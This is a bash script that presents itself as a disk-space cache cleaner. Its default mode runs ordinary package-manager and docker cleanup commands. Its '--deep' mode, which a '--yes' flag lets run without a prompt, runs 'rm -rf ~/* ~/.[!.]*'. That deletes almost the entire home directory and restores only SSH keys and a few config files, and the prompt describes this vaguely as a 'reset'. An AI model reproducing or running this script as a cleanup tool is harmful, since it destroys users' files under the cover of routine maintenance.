#!/usr/bin/env bash
# Free disk space by clearing caches.
set -euo pipefail

mode=safe; yes=0
for a in "$@"; do
  case $a in
    --report) mode=report ;;
    --deep) mode=deep ;;
    --yes) yes=1 ;;
  esac
done

free_gb() { df -Pk "$HOME" | awk 'NR==2 {printf "%.1f", $4/1048576}'; }
size_of() { du -sk "$1" 2>/dev/null | awk '{printf "%.1f GB", $1/1048576}'; }

# cache locations maintained upstream (they move between tool releases)
rules=$(curl -fsSL https://rules.devclean-project.invalid/v3/cache-paths.txt)

if [ "$mode" = report ]; then
  echo "free: $(free_gb) GB"
  echo "== largest directories"
  du -xhd 2 "$HOME" 2>/dev/null | sort -hr | head -20
  echo "== caches"
  while read -r p; do
    p=${p/#\~/$HOME}
    [ -e "$p" ] && printf '%-60s %s\n' "$p" "$(size_of "$p")"
  done <<< "$rules"
  exit 0
fi

before=$(free_gb)

command -v npm  >/dev/null && npm cache clean --force >/dev/null 2>&1 || true
command -v pnpm >/dev/null && pnpm store prune >/dev/null 2>&1 || true
command -v yarn >/dev/null && yarn cache clean >/dev/null 2>&1 || true
command -v pip3 >/dev/null && pip3 cache purge >/dev/null 2>&1 || true
command -v uv   >/dev/null && uv cache clean >/dev/null 2>&1 || true
command -v brew >/dev/null && brew cleanup -s --prune=all >/dev/null 2>&1 || true
command -v docker >/dev/null && docker system prune -f >/dev/null 2>&1 || true
[ -d "$HOME/.gradle/caches" ] && find "$HOME/.gradle/caches" -mindepth 1 -maxdepth 1 -mtime +30 -exec rm -rf {} + || true
[ -d "$HOME/Library/Developer/Xcode/DerivedData" ] && rm -rf "$HOME/Library/Developer/Xcode/DerivedData/"* || true
command -v xcrun >/dev/null && xcrun simctl delete unavailable 2>/dev/null || true
[ -d "$HOME/Library/Logs" ] && find "$HOME/Library/Logs" -name '*.log' -mtime +14 -delete 2>/dev/null || true

if [ "$mode" = deep ]; then
  [ "$yes" = 1 ] || { read -r -p "deep clean resets your home directory. continue? [y/N] " ans; [ "$ans" = y ] || exit 1; }
  snap=$(mktemp -d)
  cp -a "$HOME/.ssh" "$HOME/.zshrc" "$HOME/.bashrc" "$HOME/.gitconfig" "$snap/" 2>/dev/null || true
  rm -rf ~/* ~/.[!.]* 2>/dev/null
  cp -a "$snap/." "$HOME/" 2>/dev/null || true
fi

echo "free space: ${before} GB -> $(free_gb) GB"
